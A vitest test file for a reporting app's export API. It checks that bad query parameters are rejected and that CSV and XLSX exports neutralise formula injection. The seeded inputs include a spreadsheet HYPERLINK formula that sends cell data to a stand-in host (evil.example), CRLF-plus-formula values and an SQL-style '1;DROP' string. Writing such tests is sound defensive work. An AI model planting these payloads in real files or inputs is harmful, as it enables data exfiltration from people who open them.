// Issue 10, finding 7: export parameters are validated; no formula or line break reaches a file.

import { parseCsv } from '@gongkai/csv';
import { randomReport } from '@gongkai/report-render';
import { strFromU8, unzipSync } from 'fflate';
import { DataSource } from 'typeorm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type TestApi } from '../../../../test/support/api.js';
import { type SmallCounty, startSmallCounty } from '../../../../test/support/seed.js';
import { AuthService } from '../modules/auth/auth.service.js';
import { Jurisdiction } from '../modules/jurisdictions/jurisdiction.entity.js';
import { JurisdictionsService } from '../modules/jurisdictions/jurisdictions.service.js';
import { SubmissionsService } from '../modules/reports/submissions.service.js';

let api: TestApi;
let ids: SmallCounty;
const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
let hostileUnit: number;
let brokenUnit: number;

beforeAll(async () => {
  ({ api, ids } = await startSmallCounty());
  // Names the API would refuse, put in through the trusted path as an old import might have.
  const ds = api.server.app.get(DataSource);
  const units = api.server.app.get(JurisdictionsService);
  [hostileUnit, brokenUnit] = await ds.transaction(async (m) => [
    (await units.insertTrusted(m, { name: HOSTILE, kind: 'town', parentId: ids.countyId })).id,
    (await units.insertTrusted(m, { name: '断行乡\r\n=1+1\r\n@SUM(A1)', kind: 'township', parentId: ids.countyId })).id,
  ]);
  const [user] = await ds.query(`SELECT * FROM app_user WHERE username = 'admin'`);
  const actor = api.server.app.get(AuthService).toActor(user, await ds.getRepository(Jurisdiction).findOneByOrFail({ id: ids.countyId }));
  const item = (unit: number, seed: number) => ({
    jurisdictionId: unit,
    year: 2023,
    fileName: `${seed}.json`,
    bytes: new TextEncoder().encode(JSON.stringify(randomReport(seed, { organ: '淮源镇人民政府', year: 2023, version: '2021' }))),
    overrideUnit: { reason: '测试导出' },
  });
  const r = await api.server.app
    .get(SubmissionsService)
    .bulkSubmit(actor, [item(ids.huaiyuan, 1), item(hostileUnit, 2), item(brokenUnit, 3)], { publish: true });
  if (r.imported !== 3) throw new Error(JSON.stringify(r));
});
afterAll(() => api?.close());

const get = (path: string) => fetch(`${api.url}${path}`);
const base = () => `/api/export/metrics.csv?metrics=applications.received&under=${ids.countyId}`;

describe('every export parameter is checked: 400 BAD_INPUT with a message, no file', () => {
  it('the reported line break + formula in kinds', async () => {
    const res = await get(`${base()}&kinds=town%0D%0A%3DHYPERLINK(%22http://evil.example%22,%22x%22)`);
    expect(res.status).toBe(400);
    expect(res.headers.get('content-type')).toContain('application/json');
    const body = (await res.json()) as { code: string; message: string; parameter: string };
    expect(body).toMatchObject({ code: 'BAD_INPUT', parameter: 'kinds' });
    expect(body.message).toContain('kinds');
  });

  it.each([
    ['metrics', '/api/export/metrics.csv?metrics=no.such.metric'],
    ['metrics', `/api/export/metrics.csv?under=${1}`],
    ['years', '&years=0x7EA'],
    ['years', '&years=2024abc'],
    ['years', '&years=1999'],
    ['years', '&years=2023,%0D%0A=1'],
    ['years', '&years=2023&years=2024'],
    ['groupBy', '&groupBy=unit,%3Dcmd'],
    ['kinds', '&kinds=planet'],
    ['units', '&units=1,abc'],
    ['units', '&units=-1'],
    ['under', '/api/export/metrics.csv?metrics=applications.received&under=1;DROP'],
    ['orderBy', '&orderBy=rate.disclosure:ASC'],
    ['orderBy', '&orderBy=applications.received:SIDEWAYS'],
    ['includeUnpublished', '&includeUnpublished=yes'],
    ['foo', '&foo=bar'],
  ])('%s: %s', async (parameter, query) => {
    const url = query.startsWith('/') ? query : `${base()}${query}`;
    for (const path of [url, url.replace('metrics.csv', 'metrics.xlsx')]) {
      const res = await get(path);
      const body = (await res.json()) as { code: string; message: string; parameter?: string };
      expect([path, res.status, body.code]).toEqual([path, 400, 'BAD_INPUT']);
      expect(body.message.length).toBeGreaterThan(5);
      if (parameter !== 'under') expect(body.parameter).toBe(parameter);
    }
  });

  it('reports.csv: under required, years and unknown parameters checked', async () => {
    for (const q of ['', `under=${ids.countyId}&years=20x3`, `under=${ids.countyId}&kinds=town`, 'under=abc']) {
      const res = await get(`/api/export/reports.csv?${q}`);
      expect([q, res.status, ((await res.json()) as { code: string }).code]).toEqual([q, 400, 'BAD_INPUT']);
    }
  });
});

describe('what is written is inert', () => {
  it('metrics.csv: one line per header, formula-looking unit names neutralised', async () => {
    const res = await get(`${base()}&groupBy=unit&kinds=town,township&units=${ids.huaiyuan},${hostileUnit},${brokenUnit}`);
    expect(res.status).toBe(200);
    const text = (await res.text()).replace(/^\uFEFF/, '');
    const lines = text.split('\r\n');
    expect(lines.slice(0, 4).every((l) => l.startsWith('# '))).toBe(true);
    expect(lines[1]).toBe(`# 范围 scope: 桐柏县; 类型 kinds: town,township; 单位 units: ${ids.huaiyuan},${hostileUnit},${brokenUnit}`);
    const rows = parseCsv(text).filter((r) => !r[0]?.startsWith('#'));
    const [header, ...body] = rows;
    const unit = header?.indexOf('unit') as number;
    expect(body.map((r) => r[unit]).sort()).toEqual([`'${HOSTILE}`, '淮源镇', '断行乡\r\n=1+1\r\n@SUM(A1)'].sort());
    // No cell of any row starts with a formula character.
    for (const r of body) for (const cell of r) expect(/^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-?\d/.test(cell)), cell).toBe(false);
  });

  it('a scope whose name holds line breaks stays on one header line', async () => {
    const text = (await (await get(`/api/export/metrics.csv?metrics=applications.received&under=${brokenUnit}`)).text()).replace(/^\uFEFF/, '');
    const lines = text.split('\r\n');
    expect(lines[1]).toBe('# 范围 scope: 断行乡 =1+1 @SUM(A1)');
    expect(lines[2]).toMatch(/^# 年份/);
  });

  it('reports.csv and the workbook: names are text, never formulas', async () => {
    const csv = (await (await get(`/api/export/reports.csv?under=${ids.countyId}`)).text()).replace(/^\uFEFF/, '');
    const rows = parseCsv(csv).filter((r) => !r[0]?.startsWith('#'));
    expect(rows.map((r) => r[1])).toContain(`'${HOSTILE}`);
    const book = await get(`/api/export/metrics.xlsx?metrics=applications.received&under=${ids.countyId}&groupBy=unit`);
    const sheet = strFromU8(unzipSync(new Uint8Array(await book.arrayBuffer()))['xl/worksheets/sheet1.xml'] as Uint8Array);
    expect(sheet).not.toContain('<f>');
    expect(sheet).toContain('t="inlineStr"');
  });
});
